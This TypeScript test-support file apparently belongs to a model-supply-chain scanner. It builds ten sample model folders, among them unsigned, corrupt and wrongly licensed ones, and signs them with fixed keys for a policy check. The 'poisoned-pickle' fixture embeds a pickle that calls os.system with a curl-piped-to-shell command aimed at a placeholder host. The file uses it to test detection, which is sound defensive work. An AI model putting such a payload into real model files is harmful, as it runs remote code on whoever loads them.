import { createECDH, createHash, createPrivateKey, createPublicKey } from "node:crypto";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { digest } from "../../src/api/digest.ts";
import { sign } from "../../src/api/sign.ts";
import { writeLock } from "../../src/policy/write-lock.ts";
import { keySigner } from "../../src/signing/key-signer.ts";
import type { PemPair } from "../support/keys.ts";
import { APACHE, LLAMA } from "../support/models/described.ts";
import { writeFiles } from "../support/models/on-disk.ts";
import { gguf } from "../support/scan/gguf.ts";
import { pickleCalling } from "../support/scan/canaries.ts";
import { global, pickle, text } from "../support/scan/pickle.ts";
import { safetensors } from "../support/scan/safetensors.ts";

const CARD = `---
license: apache-2.0
language: en
library_name: transformers
pipeline_tag: text-generation
datasets: [example/letters]
model-index:
  - name: example
    results:
      - task: { type: text-generation }
        dataset: { name: MMLU, type: cais/mmlu }
        metrics: [{ type: accuracy, name: 5-shot accuracy, value: 61.3 }]
---

# Example

A small language model for letters to customers of a bank.

## Intended use

Drafts that a person reads before they are sent.

## Training data

Letters that were written for this purpose.
`;
const CONFIG = {
  architectures: ["LlamaForCausalLM"],
  model_type: "llama",
  torch_dtype: "bfloat16",
  transformers_version: "4.46.0",
  max_position_embeddings: 4096,
};
const WEIGHTS = safetensors({ "model.embed_tokens.weight": { dtype: "BF16", shape: [512, 64], length: 65_536 } });
const SKLEARN = pickle(3, global("sklearn.linear_model._logistic", "LogisticRegression"), ")", 0x81, "}(", text("C"), text("1"), "ub");
const BASE = { "README.md": CARD, LICENSE: APACHE, "config.json": json(CONFIG) } as const;
const CLEAN = { ...BASE, "model.safetensors": WEIGHTS } as const;

/** Ten models that people meet, in the order in which docs/check.md shows them. */
const MODELS: Readonly<Record<string, Readonly<Record<string, Uint8Array | string>>>> = {
  clean: CLEAN,
  "remote-code": {
    ...CLEAN,
    "config.json": json({ ...CONFIG, auto_map: { AutoModelForCausalLM: "modeling_example.ExampleForCausalLM" } }),
    "modeling_example.py": "import torch\n\n\nclass ExampleForCausalLM(torch.nn.Module):\n    pass\n",
  },
  "poisoned-pickle": { ...BASE, "pytorch_model.bin": pickleCalling("os", "system", "curl -s https://example.com/x | sh") },
  "excluded-weights": CLEAN,
  "expired-waiver": { ...BASE, "model.pkl": SKLEARN },
  "changed-signer": CLEAN,
  "non-open-license": { ...CLEAN, "README.md": CARD.replace("apache-2.0", "llama3"), LICENSE: LLAMA },
  "corrupt-gguf": { ...BASE, "model.gguf": gguf({ tensorCount: 3 }) },
  unsigned: CLEAN,
  "incomplete-download": CLEAN,
};

/** The names, in their order. */
export const SHOWN_NAMES = Object.keys(MODELS);

/** When they are decided about. */
export const SHOWN_AT = "2026-12-01T00:00:00Z";

/** Makes the ten models in `root`, each signed as its name says, with `policy.yml`, `assay.lock` and the keys beside them. */
export async function makeShownModels(root: string): Promise<void> {
  const [maker, other] = [keyPair("the maker"), keyPair("another maker")];
  writeFiles(root, { "maker.pub": maker.publicKey });
  writeFiles(root, { "moved.pub": other.publicKey });
  for (const [name, files] of Object.entries(MODELS)) {
    const folder = writeFiles(join(root, name), files);
    if (name === "unsigned") continue;
    const { privateKey } = name === "changed-signer" ? other : maker;
    await sign(folder, {
      signer: await keySigner({ privateKey }),
      signature: join(folder, "model.sig"),
      ...(name === "excluded-weights" ? { ignorePaths: [join(folder, "model.safetensors")] } : {}),
    });
  }
  const pointer = `version https://git-lfs.github.com/spec/v1\noid sha256:${hex(WEIGHTS)}\nsize ${WEIGHTS.length}\n`;
  writeFileSync(join(root, "incomplete-download", "model.safetensors"), pointer);
  const [waived, pinned] = [await digest(join(root, "expired-waiver")), await digest(join(root, "changed-signer"))];
  writeFileSync(join(root, "policy.yml"), policyText(waived.manifestDigest));
  const locked = {
    manifest: pinned.manifestDigest,
    signer: { method: "key", fingerprint: hex(createPublicKey(maker.publicKey).export({ type: "spki", format: "der" })) },
    revision: undefined,
    signedAt: undefined,
    decision: "allow",
    policy: `sha256:${"0".repeat(64)}`,
    pinned: "2026-10-01T00:00:00.000Z",
  } as const;
  writeFileSync(join(root, "assay.lock"), writeLock({ models: new Map([["changed-signer", locked]]) }));
}

function policyText(waived: string): string {
  return `version: 1
name: production
always:
  load: data-only
  license: { deny: ["@non-commercial", "@user-cap", "@field-of-use"] }
models:
  - id: ours
    match: { name: "*" }
    rules:
      signers:
        - { name: the maker, key: { file: maker.pub } }
        - { name: the maker since November, key: { file: moved.pub } }
      coverage: complete
      pin: if-present
      formats: [safetensors, GGUF, pickle]
waivers:
  - rule: load
    manifest: "${waived}"
    reason: a scikit-learn model of the risk team, to be converted in October
    issued: 2026-09-01
    expires: 2026-10-31
    approved-by: [risk@example.com, security@example.com]
`;
}

/** The same key in every run, so that what is printed stays the same. */
function keyPair(seed: string): PemPair {
  const d = createHash("sha256").update(seed).digest();
  const curve = createECDH("prime256v1");
  curve.setPrivateKey(d);
  const point = curve.getPublicKey();
  const jwk = {
    kty: "EC",
    crv: "P-256",
    d: d.toString("base64url"),
    x: point.subarray(1, 33).toString("base64url"),
    y: point.subarray(33).toString("base64url"),
  };
  const privateKey = createPrivateKey({ key: jwk, format: "jwk" });
  return {
    privateKey: privateKey.export({ type: "pkcs8", format: "pem" }).toString(),
    publicKey: createPublicKey(privateKey).export({ type: "spki", format: "pem" }).toString(),
  };
}

function hex(bytes: Uint8Array): string {
  return createHash("sha256").update(bytes).digest("hex");
}

function json(value: unknown): string {
  return `${JSON.stringify(value, undefined, 2)}\n`;
}
